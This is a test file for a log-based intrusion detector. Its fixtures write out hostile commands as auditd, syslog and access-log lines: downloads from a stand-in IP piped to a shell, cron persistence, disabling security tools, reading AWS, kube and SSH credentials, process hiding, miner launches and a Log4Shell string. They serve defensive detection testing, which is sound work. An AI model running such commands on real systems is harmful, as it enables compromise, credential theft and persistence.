import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { readRuleFiles } from '../../src/cli/sigma-rules.ts'
import type { Event } from '../../src/event/event.ts'
import { type Finding, isAtLeast } from '../../src/event/finding.ts'
import { ruleMatch } from '../../src/detectors/rule-match/index.ts'
import { loadIntel } from '../../src/intel/load.ts'
import { RuleRun } from '../../src/pipeline/rule-run.ts'
import { bindRules } from '../../src/sigma/rule-book.ts'
import { accessLog } from '../../src/sources/access-log/index.ts'
import { auditd } from '../../src/sources/auditd/index.ts'
import { syslog } from '../../src/sources/syslog/index.ts'
import type { Source } from '../../src/sources/source.ts'
import { readTexts } from '../../src/sources/samples/read-texts.ts'

const intel = loadIntel()
const files = readRuleFiles([join(import.meta.dirname, '..', '..', 'rules')])

interface Told {
  readonly title: string
  readonly severity: Finding['severity']
}

/** What rules say of a log as it lies on a disk, worst first. */
async function toldOf(source: Source, text: string): Promise<Told[]> {
  const told = new Map<string, Told>()
  const tell = ({ title, severity }: Finding): unknown => told.set(title, { title, severity })
  const run = new RuleRun(bindRules(files), intel, tell)
  const weigh = (match: Event): void => {
    if (match.kind !== 'rule-match' || run.correlate(match).isSilent) return
    const state = ruleMatch.create('')
    ruleMatch.step(state, match, tell, { intel })
  }
  const { events } = await readTexts(source, [{ name: 'log', text }], {
    matchesOf: (record) => run.matchesOf(record),
  })
  for (const event of events) {
    if (event.kind === 'rule-match') weigh(event)
    else for (const match of run.matchesOn(event)) weigh(match)
    run.advance(event.time)
  }
  run.settle()
  return [...told.values()]
}

const grave = (told: readonly Told[]): string[] =>
  told.filter(({ severity }) => isAtLeast(severity, 'high')).map(({ title }) => title)

const START = Date.parse('2026-05-12T03:00:00Z') / 1000

/** Lines as auditd writes them: program, arguments; a second apart. `exe` where it is not /usr/bin/<first>. */
function audit(commands: readonly (readonly [argv: readonly string[], exe?: string])[]): string {
  return commands
    .map(([argv, exe], at) => {
      const id = `audit(${START + at}.000:${100 + at})`
      const path = exe ?? `/usr/bin/${argv[0] ?? ''}`
      const args = argv.map((arg, n) => `a${n}=${written(arg)}`).join(' ')
      return [
        `type=SYSCALL msg=${id}: arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=4000 pid=${5000 + at} auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=7 comm="${argv[0] ?? ''}" exe="${path}" key=(null)`,
        `type=EXECVE msg=${id}: argc=${argv.length} ${args}`,
        `type=CWD msg=${id}: cwd="/root"`,
        `type=PATH msg=${id}: item=0 name="${path}" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL`,
      ].join('\n')
    })
    .join('\n')
    .concat('\n')
}

/** As the kernel does it: in quotes, or in hexadecimal where something in it would break the line. */
function written(arg: string): string {
  return /[^!#-~]/u.test(arg) ? Buffer.from(arg).toString('hex').toUpperCase() : `"${arg}"`
}

const sh = (script: string): readonly [readonly string[], string] => [['sh', '-c', script], '/usr/bin/dash']
const run = (line: string, exe?: string): readonly [readonly string[], string?] =>
  exe === undefined ? [line.split(' ')] : [line.split(' '), exe]

describe('in an audit trail', () => {
  it.each<[string, ReturnType<typeof audit>, string]>([
    [
      'a miner',
      audit([run('./kd -o stratum+tcp://pool.example.net:3333 -u x', '/tmp/kd')]),
      'A program was started with the address of a mining pool',
    ],
    [
      'a script with tabs from a bare address',
      audit([sh('curl -s\thttp://203.0.113.46/x |\tbash')]),
      'A script from a bare address was run unseen',
    ],
    [
      'a job that fetches',
      audit([sh('echo "* * * * * root curl -s http://203.0.113.46/x | sh" > /etc/cron.d/z')]),
      'A command that fetches or decodes was written into the machine’s start',
    ],
    [
      'guards that go one after the other',
      audit([run('setenforce 0'), run('iptables -F'), run('auditctl -D'), run('pkill -9 falcon-sensor')]),
      'Several guards of the machine were removed within minutes',
    ],
    [
      'a takeover',
      audit([
        run('pkill -9 -f kdevtmpfsi'),
        run('crontab -r'),
        sh('chattr -i /tmp/kinsing; echo 1 > /tmp/kinsing; chattr +i /tmp/kinsing'),
        sh('(crontab -l; echo "* * * * * wget -qO- http://203.0.113.46/x | sh") | crontab -'),
      ]),
      'The machine was taken over from other intruders',
    ],
    [
      'a worm that guesses passwords',
      audit([
        sh('cd ~; chattr -ia .ssh; lockr -ia .ssh'),
        sh('echo "root:Zz0Zz0Zz0Zz0"|chpasswd|bash'),
        sh('cat /proc/cpuinfo | grep name | wc -l'),
      ]),
      'Password and keys were changed within minutes, and the machine was surveyed',
    ],
    [
      'tuning',
      audit([
        run('modprobe msr allow_writes=on'),
        run('wrmsr -a 0x1a4 0xf'),
        run('sysctl -w vm.nr_hugepages=1280'),
      ]),
      'Processor and memory were tuned as miners do',
    ],
    [
      'keys of several kinds',
      audit([run('cat /root/.aws/credentials'), run('cat /root/.kube/config'), run('cat /root/.ssh/id_rsa')]),
      'Credentials of several kinds were gathered within minutes',
    ],
    [
      'a process behind a mount',
      audit([run('mount --bind /var/tmp/.e /proc/4242')]),
      'A process was hidden behind a mount',
    ],
  ])('%s is told as grave', async (_what, text, title) => {
    expect(grave(await toldOf(auditd, text))).toContain(title)
  })

  it.each<[string, ReturnType<typeof audit>]>([
    [
      'a responder who cleans up',
      audit([
        run('pkill -9 -f xmrig'),
        sh('ps aux | grep -v grep | grep -E "xmrig|kinsing" | awk \'{print $2}\' | xargs -r kill -9'),
        run('rm -rf /tmp/xmrig /var/tmp/.update'),
        run('crontab -r'),
        run('iptables -A OUTPUT -p tcp --dport 3333 -j DROP'),
        sh('echo "0.0.0.0 pool.supportxmr.com" >> /etc/hosts'),
        run('chattr -i /root/.ssh/authorized_keys'),
        sh('echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIZZZ me > /root/.ssh/authorized_keys'),
        run('grep -rn stratum+tcp:// /etc /opt'),
        run('strings /root/evidence/xmrig'),
      ]),
    ],
    [
      'hardening and tuning',
      audit([
        run('chattr +i /etc/resolv.conf'),
        run('iptables -A INPUT -p tcp --dport 2375 -j DROP'),
        run('sysctl -w vm.nr_hugepages=8192'),
        run('modprobe msr'),
        run('mv /usr/bin/wget /usr/bin/wget.orig'),
        sh('curl -fsSL http://update.aegis.aliyun.example/download/uninstall.sh | sh'),
        run('sed -i s/^SELINUX=enforcing/SELINUX=permissive/ /etc/selinux/config'),
      ]),
    ],
    [
      'installers and package managers',
      audit([
        sh('curl -fsSL https://get.example.org | sudo bash'),
        run('apt-get install -y nginx fail2ban'),
        run('dpkg --configure -a'),
        sh('curl -LO https://dl.example.org/kubectl && chmod +x kubectl && mv kubectl /usr/local/bin/'),
        sh(
          'echo "deb [signed-by=/etc/apt/k.gpg] https://apt.example.org stable main" > /etc/apt/sources.list.d/a.list',
        ),
        run('pip install --no-cache-dir requests'),
        run('cc -O2 -o donate donate.c'),
      ]),
    ],
    [
      'an image that is cleaned before it is copied',
      audit([
        run('truncate -s 0 /var/log/auth.log /var/log/wtmp'),
        sh('rm -f /root/.bash_history; unset HISTFILE'),
        run('journalctl --rotate --vacuum-time=1s'),
        run('cloud-init clean --logs'),
      ]),
    ],
    [
      'backup, databases, containers',
      audit([
        run('tar czf /backup/home.tgz /home /root/.ssh'),
        run('redis-cli config set maxmemory 2gb'),
        run('pg_dump -h db.internal -U app app'),
        run('docker run -d --pid=host -v /:/host:ro,rslave quay.example/node-exporter --path.rootfs=/host'),
        run('nsenter -t 4321 -n ss -tlnp'),
        run('rsync -a --delete /srv/ backup@10.0.0.9:/srv/'),
      ]),
    ],
    [
      'configuration management',
      audit([
        sh(
          'echo BECOME-SUCCESS-zzz ; /usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1/AnsiballZ_command.py',
        ),
        sh('echo "app ALL=(root) NOPASSWD: /bin/systemctl restart app" > /etc/sudoers.d/app'),
        sh('echo ZWNobyBoaQo= | base64 -d > /etc/app/config.yaml'),
        run('useradd -m -s /bin/bash -u 1010 deploy'),
        sh('echo deploy:zzz | chpasswd'),
        run('systemctl enable --now app.service'),
      ]),
    ],
  ])('%s: nothing grave', async (_what, text) => {
    expect(grave(await toldOf(auditd, text))).toEqual([])
  })
})

describe('in the lines of programs', () => {
  it('what sudo and cron ran is looked at, too', async () => {
    const lines = [
      'May 12 03:00:01 web-1 CRON[900]: (root) CMD (curl -s http://203.0.113.46/x | sh)',
      'May 12 03:00:02 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/mount --bind /tmp/e /proc/77',
    ]
    const told = grave(await toldOf(syslog, `${lines.join('\n')}\n`))
    expect(told).toContain('A script from a bare address was run unseen')
    expect(told).toContain('A process was hidden behind a mount')
  })

  it('an ordinary day of cron and sudo is none of their business', async () => {
    const lines = [
      'May 12 03:00:01 web-1 CRON[900]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)',
      'May 12 03:05:01 web-1 CRON[901]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)',
      'May 12 03:06:00 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get upgrade -y',
      'May 12 03:07:00 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/crontab -l',
    ]
    expect(await toldOf(syslog, `${lines.join('\n')}\n`)).toEqual([])
  })
})

function line(request: string, status: number, agent = 'Mozilla/5.0'): string {
  return `203.0.113.9 - - [12/May/2026:03:00:00 +0000] "${request} HTTP/1.1" ${status} 120 "-" "${agent}"`
}

describe('in an access log', () => {
  it.each<[string, string, Told[]]>([
    [
      'an exploit that the server answered',
      line('POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 200),
      [{ title: 'A web server answered an attempt to take it over with success', severity: 'medium' }],
    ],
    [
      'the same, refused',
      line('POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404),
      [{ title: 'Somebody tried to take over a web server', severity: 'low' }],
    ],
    [
      // Any page answers well to a header that it does not look at.
      'Log4Shell in the user agent',
      // oxlint-disable-next-line no-template-curly-in-string -- as it stands in a log
      line('GET /', 200, '${jndi:ldap://203.0.113.9:1389/a}'),
      [{ title: 'Somebody tried to take over a web server', severity: 'low' }],
    ],
    ['a visitor', line('GET /search?q=curl+https://example.org', 200), []],
    ['a crawler', line('GET /robots.txt', 404, 'ExampleBot/1.0'), []],
  ])('%s', async (_what, text, told) => {
    expect(await toldOf(accessLog, `${text}\n`)).toEqual(told)
  })
})
